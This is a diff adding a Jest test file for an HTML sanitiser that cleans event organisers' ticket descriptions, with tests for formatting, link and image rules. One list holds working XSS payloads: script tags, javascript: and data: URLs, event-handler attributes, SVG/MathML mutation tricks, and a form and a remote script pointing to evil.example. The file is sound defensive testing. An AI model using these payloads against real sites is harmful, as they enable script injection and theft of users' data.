@@ -1,0 +1,104 @@
+import { sanitizeHtml } from './sanitize-html';
+
+/** What is left of an organiser's HTML, in the page. */
+function drawn(html: string): HTMLElement {
+  const place = document.createElement('div');
+  place.append(sanitizeHtml(html));
+  return place;
+}
+
+test.each([
+  '<p><strong>Two days</strong>, <em>one</em> price<br>with <u>camping</u></p>',
+  '<ul><li>Gate 1</li><li>Gate 2</li></ul>',
+  '<table><tbody><tr><td colspan="2">Lunch</td></tr></tbody></table>',
+  '<blockquote>Best in town</blockquote><hr><h5>Bring</h5>',
+])('formatting stays: %s', (html) => {
+  expect(drawn(html).innerHTML).toBe(html);
+});
+
+test('headings go below the name of the ticket and keep their formatting', () => {
+  expect(drawn('<h1>All <em>day</em></h1><h3>Food</h3>').innerHTML).toBe(
+    '<h4>All <em>day</em></h4><h4>Food</h4>',
+  );
+});
+
+test.each(['https://example.com/map', 'http://example.com/', 'mailto:crew@example.com', 'tel:+15550100'])(
+  'a link to %s opens in a new tab that cannot reach back',
+  (href) => {
+    const link = drawn(`<a href="${href}" target="_top" rel="opener">More</a>`).querySelector('a');
+    expect(link?.getAttribute('href')).toBe(href);
+    expect(link?.getAttribute('target')).toBe('_blank');
+    expect(link?.getAttribute('rel')).toBe('noopener noreferrer');
+  },
+);
+
+test.each([
+  'javascript:alert(1)',
+  ' JaVaScRiPt:alert(1)',
+  'java&#10;script:alert(1)',
+  '&#106;avascript:alert(1)',
+  'data:text/html,<script>alert(1)</script>',
+  'vbscript:msgbox(1)',
+  '/events/other/checkout',
+  '//evil.example',
+  'blob:https://example.com/x',
+])('a link to %s keeps its words and leads nowhere', (href) => {
+  const place = drawn(`<a href="${href}">More</a>`);
+  expect(place.textContent).toContain('More');
+  expect(place.querySelector('[href]')).toBeNull();
+});
+
+test('an image comes over https, or not at all', () => {
+  const place = drawn(
+    `<img src="https://example.com/a.png" alt="Map"><img src="http://example.com/b.png">
+     <img src="data:image/svg+xml,<svg onload=alert(1)>"><img src="/c.png"><img src=x onerror=alert(1)><img>`,
+  );
+  expect([...place.querySelectorAll('img')].map((image) => image.outerHTML)).toEqual([
+    '<img src="https://example.com/a.png" alt="Map">',
+  ]);
+});
+
+const hostile = [
+  '<script>alert(1)</script>',
+  '<script src="https://evil.example/x.js"></script>',
+  '<img src="https://example.com/a.png" onerror="alert(1)" onload="alert(1)">',
+  '<p onclick="alert(1)" onmouseover=alert(1)>Hi</p>',
+  '<svg onload=alert(1)><script>alert(1)</script></svg>',
+  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
+  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
+  '<math href="javascript:alert(1)">x</math>',
+  '<iframe src="javascript:alert(1)"></iframe>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
+  '<form action="https://evil.example"><input name="card"><button formaction="javascript:alert(1)">Pay</button></form>',
+  '<select autofocus onfocus=alert(1)><option>x</select><textarea onfocus=alert(1) autofocus></textarea>',
+  '<p style="position:fixed;inset:0;background:url(javascript:alert(1))">Over the page</p>',
+  '<style>body{display:none}</style><link rel="stylesheet" href="https://evil.example/x.css">',
+  '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/">',
+  '<template><script>alert(1)</script></template><noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+  '<video src=x onerror=alert(1)></video><audio src=x onerror=alert(1)></audio><marquee onstart=alert(1)>x</marquee>',
+  '<details open ontoggle=alert(1)>x</details><body onload=alert(1)>',
+  '<p id="root" class="card" name="boot" data-x="1">Clobbered</p><img name="getElementById" src="https://example.com/a.png">',
+  '<p>Broken <b><img src="https://example.com/a.png" onerror=alert(1)',
+  '<<script>script>alert(1)<</script>/script>',
+  '<a href="https://example.com" ping="https://evil.example" download onclick=alert(1)>x</a>',
+  '<img srcset="https://evil.example/x 1x" src="https://example.com/a.png" usemap="#m">',
+  '<custom-card onclick=alert(1) is="x">Hi</custom-card>',
+];
+
+const allowedTags = 'p, b, a, img, table, tbody, tr, td';
+const allowedAttributes = new Set(['href', 'src', 'alt', 'title', 'target', 'rel']);
+
+test.each(hostile)('of hostile HTML nothing is left that runs, submits or restyles: %s', (html) => {
+  const alert = jest.fn();
+  Object.assign(window, { alert });
+  const place = document.body.appendChild(drawn(html));
+  for (const element of place.querySelectorAll('*')) {
+    expect(element.matches(allowedTags)).toBe(true);
+    for (const { name } of element.attributes) expect(allowedAttributes).toContain(name);
+    element.dispatchEvent(new MouseEvent('click', { cancelable: true }));
+  }
+  expect(alert).not.toHaveBeenCalled();
+  place.remove();
+});
